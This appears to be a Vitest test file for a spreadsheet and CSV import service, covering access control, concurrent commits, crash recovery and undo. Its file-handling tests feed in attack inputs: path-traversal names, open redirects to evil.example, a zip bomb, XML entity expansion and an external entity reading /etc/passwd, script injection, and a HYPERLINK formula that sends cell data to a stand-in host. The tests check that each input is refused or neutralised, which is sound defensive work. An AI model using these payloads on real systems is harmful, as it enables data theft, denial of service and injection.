import { schema } from '@hansa/db'
import { mostUnpackedBytes } from '@hansa/domain/import'
import { eq, sql } from 'drizzle-orm'
import { Zip, ZipDeflate, zipSync } from 'fflate'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { contentOf } from '../entry/entry.content.ts'
import { xlsxRecords } from '../table/xlsx-rows.ts'
import { build, idOf, save } from '../testing/world.ts'
import { stageEntries } from './staged.ts'
import { csv, type Imports, league, openImports, xlsx } from './testing/open-imports.ts'

const { entry, entryImport, importChange } = schema

let i: Imports
beforeAll(async () => {
  i = await openImports()
})
afterAll(() => i.close())

const count = (state: string) => i.database.db.$count(entry, eq(entry.state, state as 'staged'))
const commit = (id: string, by = i.admin) => i.act(by, `commitImport(id: "${id}", publish: true)`)

describe('who may not', () => {
  test('sends nothing: visitors, members, other secretariats, other sites, tokens for reading', async () => {
    const member = await i.person({ at: [{ entry: idOf('organisation', 'board'), function: 'editor' }] })
    const file = csv(['title'], ['A'])
    expect((await i.post(null, file)).status).toBe(401)
    expect((await i.post(member, file)).status).toBe(403)
    expect((await i.post(member, file, { network: league })).status).toBe(403)
    expect((await i.post(i.curator, file, { network: idOf('network', 'branch') })).status).toBe(403)
    expect((await i.post(i.curator, file)).status).toBe(403)
    expect((await i.post(i.admin, file, { headers: { 'Sec-Fetch-Site': 'cross-site' } })).status).toBe(401)
    expect((await i.post(i.admin, file, { kind: 'member' })).status).toBe(400)
    expect((await i.post(i.admin, file, { network: 'netw_000000000000' })).status).toBe(400)
  })

  test('learns and does nothing with the id of an import of others, which looks as if it were not there', async () => {
    const { id } = await i.checked(csv(['title'], ['Secret']), { network: league }, i.curator)
    const stranger = await i.person()
    const nowhere = 'impo_000000000000'
    for (const what of [
      'mapImport(id: "$", mapping: ["title"])',
      'checkImport(id: "$")',
      'commitImport(id: "$")',
      'undoImport(id: "$")',
      'discardImport(id: "$")',
    ]) {
      const tried = await i.act(stranger, what.replace('$', id))
      expect(tried.errors).toEqual(['FORBIDDEN'])
      expect(await i.act(stranger, what.replace('$', nowhere))).toEqual(tried)
    }
    await expect(i.see(id, stranger)).rejects.toThrow('FORBIDDEN')
    expect((await i.get(`/tables/imports/${id}/verdicts.csv`, stranger)).status).toBe(403)
    expect((await i.get(`/tables/imports/${id}/verdicts.csv`)).status).toBe(401)
    expect((await i.see(id, i.curator)).state).toBe('CHECKED')
  })

  test('changes nothing that is not in her network’s care, and moves nothing into it', async () => {
    const file = csv(
      ['id', 'title', 'networks'],
      [idOf('practice', 'twin'), 'Mine now', 'league'],
      [idOf('practice', 'key'), 'Ours', ''],
    )
    const { rows } = await i.checked(file, { network: league }, i.curator)
    expect(rows.nodes.map(({ verdict, reasons }) => [verdict, ...reasons.map(({ code }) => code)])).toEqual([
      ['REFUSED', 'NOT_YOURS'],
      ['CHANGED'],
    ])
  })

  test('publishes nothing that her own organisation leads; what her network brings in she does, what it does not is a draft', async () => {
    const board = idOf('organisation', 'board')
    const both = await i.person({
      at: [
        { entry: league, function: 'curator' },
        { entry: board, function: 'editor' },
      ],
    })
    const file = csv(['title', 'leadOrganisation'], ['Ours and mine', board], ['Only ours', ''])
    const { rows } = await i.committed(file, { network: league }, both)
    const states = await Promise.all(
      rows.nodes.map(
        async ({ entryId }) =>
          (
            await i.database.db
              .select()
              .from(entry)
              .where(eq(entry.id, String(entryId)))
          )[0]?.state,
      ),
    )
    expect(states).toEqual(['draft', 'published'])
    const organisations = await i.committed(
      csv(['title'], ['New body']),
      { kind: 'organisation', network: league },
      i.curator,
    )
    const [one] = await i.database.db
      .select()
      .from(entry)
      .where(eq(entry.id, String(organisations.rows.nodes[0]?.entryId)))
    expect(one?.state).toBe('draft')
  })
})

describe('a file', () => {
  test('gets no path, no markup and no hidden signs into its name, and leads nowhere else', async () => {
    const name = '../../etc/<b>pass\u202Ewd.csv'
    const id = await i.sent(csv(['title'], ['A']), { name })
    const [row] = await i.database.db.select().from(entryImport).where(eq(entryImport.id, id))
    expect(row?.fileName).not.toMatch(/[/\\<>\u202e]|\.\./)
    for (const back of [
      'https://evil.example/',
      '//evil.example',
      '/\\evil.example',
      '/.//evil.example',
      'x',
    ]) {
      const response = await i.post(i.admin, csv(['title'], ['A']), { back })
      expect(response.headers.get('Location') ?? '').not.toMatch(/evil|^\/\//)
      expect(response.status).toBe(201)
    }
    await i.database.db.delete(schema.throttle)
    await i.database.db.delete(entryImport)
  })

  test.each([
    '/tables/../files/x.csv',
    '/tables/templates/..%2F..%2Fetc%2Fpasswd',
    '/tables/templates/__proto__.csv',
    '/tables/constructor.csv',
    '/tables/imports/..%2f/verdicts.csv',
  ])('is not given at %s', async (path) => expect([401, 403, 404]).toContain((await i.get(path)).status))

  const sheet = (rows: string) =>
    `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>${rows}</sheetData></worksheet>`
  const book = (parts: Record<string, string | Uint8Array>) => {
    const text = new TextEncoder()
    const all = {
      'xl/workbook.xml': '<workbook xmlns:r="r"><sheets><sheet name="a" r:id="rId1"/></sheets></workbook>',
      'xl/_rels/workbook.xml.rels':
        '<Relationships><Relationship Id="rId1" Target="worksheets/sheet1.xml"/></Relationships>',
      ...parts,
    }
    return zipSync(
      Object.fromEntries(
        Object.entries(all).map(([name, part]) => [
          name,
          typeof part === 'string' ? text.encode(part) : part,
        ]),
      ),
      { level: 9 },
    )
  }
  const reasonOf = async (content: Uint8Array) => {
    const response = await i.post(i.admin, content)
    await i.database.db.delete(schema.throttle)
    return (await response.json()).errors?.[0]?.extensions?.reason
  }

  test('that says itself that it unpacks to more than there may be is refused at once, whichever part of it does', async () => {
    const bomb = new Uint8Array(mostUnpackedBytes + 1)
    expect(await reasonOf(book({ 'xl/worksheets/sheet1.xml': bomb }))).toBe('too-large')
    expect(
      await reasonOf(book({ 'xl/sharedStrings.xml': bomb, 'xl/worksheets/sheet1.xml': sheet('') })),
    ).toBe('too-large')
  })

  test('that hides what it unpacks to is given up when it is too much', async () => {
    const pieces: Uint8Array[] = []
    const zip = new Zip((_, piece) => pieces.push(piece))
    const part = new ZipDeflate('xl/sharedStrings.xml', { level: 9 })
    zip.add(part)
    part.push(new TextEncoder().encode(`<sst>${' '.repeat(3_000_000)}</sst>`), true)
    zip.end()
    const hidden = Buffer.concat(pieces)
    expect(hidden.length).toBeLessThan(10_000)
    await expect(xlsxRecords(hidden, 2_000_000)).rejects.toMatchObject({ problem: 'too-large' })
  })

  test('whose XML declares entities, or is none, is refused', async () => {
    const laughs = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]>'
    const outside = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
    const cell = '<row><c t="inlineStr"><is><t>&a;</t></is></c></row>'
    for (const doctype of [laughs, outside, ''])
      expect(await reasonOf(book({ 'xl/worksheets/sheet1.xml': doctype + sheet(cell) }))).toBe('damaged')
    expect(await reasonOf(book({ 'xl/worksheets/sheet1.xml': '<worksheet><unclosed>' }))).toBe('damaged')
    expect(await reasonOf(zipSync({ 'a.txt': new Uint8Array([1]) }))).toBe('type')
  })

  test('with formulas holds what they came to, and nothing is ever worked out', async () => {
    const rows =
      '<row r="1"><c r="A1" t="inlineStr"><is><t>title</t></is></c><c r="B1" t="inlineStr"><is><t>summary</t></is></c></row>' +
      '<row r="7"><c r="A7" t="str"><f>HYPERLINK("http://x.example","y")</f><v>As shown</v></c><c r="B7" t="e"><f>1/0</f><v>#DIV/0!</v></c></row>' +
      '<row r="9"><c r="A9"><f>WEBSERVICE("http://x.example")</f></c><c r="B9" t="inlineStr"><is><t>no title</t></is></c></row>'
    const { rows: seen } = await i.checked(book({ 'xl/worksheets/sheet1.xml': sheet(rows) }))
    expect(
      seen.nodes.map(({ row, about, reasons }) => [
        row,
        about,
        ...reasons.map(({ field, code }) => `${field} ${code}`),
      ]),
    ).toEqual([
      [7, 'As shown', 'summary FORMULA_ERROR'],
      [9, '', 'title EMPTY'],
    ])
  })

  test('with script in every cell shows it as text, and with formulas in every cell neutralised', async () => {
    const evil = '=HYPERLINK("http://x.example/?"&A1)<script>alert(1)</script>'
    const { id, rows } = await i.checked(csv(['title', 'stage'], [evil, evil]))
    expect(rows.nodes[0]?.about).toBe(evil)
    expect(rows.nodes[0]?.reasons[0]?.value).toBe(evil.slice(0, 80))
    const report = await (await i.get(`/tables/imports/${id}/verdicts.csv`, i.admin)).text()
    expect(report).not.toMatch(/(^|,|")=/m)
    expect(report).toContain(`"'=HYPERLINK(`)
  })
})

describe('what is written', () => {
  test('is written once when it is committed several times at once', async () => {
    const { id } = await i.checked(csv(['provenance.id', 'title'], ['once', 'Written once']))
    const tries = await Promise.all(Array.from({ length: 5 }, () => commit(id)))
    expect(tries.filter(({ problems }) => problems.length === 0)).toHaveLength(1)
    expect(await i.database.db.$count(entry, sql`${entry.provenance} ->> 'id' = 'once'`)).toBe(1)
    expect((await commit(id)).problems).toMatchObject([{ code: 'CONFLICT' }])
  })

  test('is nothing when an entry was changed since the check, which is named', async () => {
    const { id } = await i.checked(
      csv(['id', 'title'], [idOf('practice', 'key'), 'By the import'], ['', 'New beside it']),
    )
    await save(i.database.db, build('practice', 'key', { title: 'By somebody else' }))
    await commit(id)
    const seen = await i.see(id)
    expect(seen).toMatchObject({
      state: 'MAPPING',
      obstacles: [{ row: 2, about: 'By the import', reason: { code: 'CHANGED_SINCE' } }],
    })
    expect(await i.database.db.$count(entry, sql`${entry.title} -> 'en' ->> 'text' = 'New beside it'`)).toBe(
      0,
    )
    expect(await count('staged')).toBe(0)
  })

  test('is nothing when its address was taken since the check', async () => {
    const { id } = await i.checked(csv(['title'], ['First come']))
    await save(i.database.db, build('practice', 'first-come', { title: 'First come' }))
    await commit(id)
    expect((await i.see(id)).obstacles).toMatchObject([{ row: 2, reason: { code: 'TAKEN' } }])
    expect(await count('staged')).toBe(0)
  })

  test('is nothing when it dies half-way, and what lay there unseen is gone after the next sweep', async () => {
    const { id } = await i.checked(
      csv(['provenance.id', 'title'], ['h1', 'Zwischenstand'], ['h2', 'Half two']),
    )
    const [change] = await i.database.db.select().from(importChange).where(eq(importChange.importId, id))
    if (!change) throw new Error('nothing is to be written')
    await stageEntries(i.database.db, [contentOf('practice', change.entryId, change.after)])
    await i.database.db
      .update(entryImport)
      .set({ state: 'committing', workToken: 'of the dead', workUntil: new Date(i.now().getTime() - 1) })
      .where(eq(entryImport.id, id))
    expect(await count('staged')).toBe(1)
    await i.index()
    const { data } = await i.ask(
      `{ practice(id: "${change.entryId}") { id } search(text: "Zwischenstand") { totalCount } }`,
    )
    expect(data).toEqual({ practice: null, search: { totalCount: 0 } })
    await i.sweep()
    expect(await count('staged')).toBe(0)
    expect((await i.see(id)).state).toBe('CHECKED')
    expect((await commit(id)).problems).toEqual([])
    expect((await i.see(id)).state).toBe('COMMITTED')
  })

  test('is all of it when it dies behind its decision: the next sweep goes on, and so with taking it back', async () => {
    const { id, rows } = await i.checked(
      csv(
        ['id', 'provenance.id', 'title'],
        [idOf('practice', 'twin'), '', 'Twin by import'],
        ['', 'f1', 'Forward'],
      ),
    )
    const changes = await i.database.db.select().from(importChange).where(eq(importChange.importId, id))
    const fresh = changes.filter(({ beforeHash }) => beforeHash === null)
    await stageEntries(
      i.database.db,
      fresh.map(({ entryId, after }) => contentOf('practice', entryId, after)),
    )
    await i.database.db.update(importChange).set({ state: 'published' }).where(eq(importChange.importId, id))
    const dead = {
      workToken: 'of the dead',
      workUntil: new Date(i.now().getTime() - 1),
      decidedAt: i.now(),
      decidedBy: i.admin.id,
    }
    await i.database.db
      .update(entryImport)
      .set({ ...dead, state: 'committing' })
      .where(eq(entryImport.id, id))
    expect((await commit(id)).problems).toMatchObject([{ code: 'CONFLICT' }])
    await i.sweep()
    expect(await i.see(id)).toMatchObject({ state: 'COMMITTED', obstacles: [] })
    const titles = async () =>
      (
        await i.ask(
          `{ nodes(ids: ["${rows.nodes[0]?.entryId}", "${rows.nodes[1]?.entryId}"]) { ... on Practice { title { value } } } }`,
        )
      ).data.nodes
    expect(await titles()).toEqual([{ title: { value: 'Twin by import' } }, { title: { value: 'Forward' } }])
    const [made] = await i.database.db
      .select()
      .from(schema.audit)
      .where(eq(schema.audit.entryId, String(rows.nodes[1]?.entryId)))
    expect(made).toMatchObject({ actor: i.admin.id, action: 'entry.created' })
    await i.database.db
      .update(entryImport)
      .set({ ...dead, state: 'undoing' })
      .where(eq(entryImport.id, id))
    await i.sweep()
    expect((await i.see(id)).state).toBe('UNDONE')
    expect(await titles()).toEqual([{ title: { value: 'Flats for newcomers' } }, null])
  })

  test('can be taken back by name: not what somebody changed or uses since', async () => {
    const first = await i.committed(
      csv(['provenance.id', 'title'], ['b1', 'Body one'], ['b2', 'Body two'], ['b3', 'Body three']),
      {
        kind: 'organisation',
      },
    )
    const [one, two] = first.rows.nodes.map(({ entryId }) => String(entryId))
    await i.committed(csv(['id', 'acronym'], [one ?? '', 'B1']), { kind: 'organisation' })
    const practices = await i.committed(csv(['title', 'leadOrganisation'], ['Led by it', two ?? '']))
    await i.act(i.admin, `undoImport(id: "${first.id}")`)
    expect((await i.see(first.id)).obstacles).toMatchObject([
      { row: 2, about: 'Body one', reason: { code: 'CHANGED_SINCE' } },
      { row: 3, about: 'Body two', reason: { code: 'USED_SINCE' } },
    ])
    expect((await i.see(first.id)).state).toBe('COMMITTED')
    await i.act(i.admin, `undoImport(id: "${practices.id}")`)
    await i.committed(csv(['id', 'acronym'], [one ?? '', '[]']), { kind: 'organisation' })
    expect((await i.act(i.admin, `undoImport(id: "${first.id}")`)).problems).toEqual([])
    expect((await i.see(first.id)).state).toBe('UNDONE')
    const { data } = await i.ask(`{ organisation(id: "${two}") { id } }`)
    expect(data.organisation).toBeNull()
    // Sent again, it comes back under its old ids.
    const again = await i.committed(csv(['provenance.id', 'title'], ['b2', 'Body two']), {
      kind: 'organisation',
    })
    expect(again.rows.nodes[0]).toMatchObject({ entryId: two, verdict: 'CHANGED' })
    expect((await i.ask(`{ organisation(id: "${two}") { id } }`)).data.organisation).toEqual({ id: two })
  })

  test('of what is old, the rows go, and files that were never written', async () => {
    const old = await i.sent(await xlsx(['title'], ['Never written']))
    await i.database.db
      .update(entryImport)
      .set({ createdAt: new Date(0) })
      .where(eq(entryImport.id, old))
    await i.sweep()
    await expect(i.see(old)).rejects.toThrow('FORBIDDEN')
    expect(await i.database.db.$count(schema.importRow, eq(schema.importRow.importId, old))).toBe(0)
  })
})
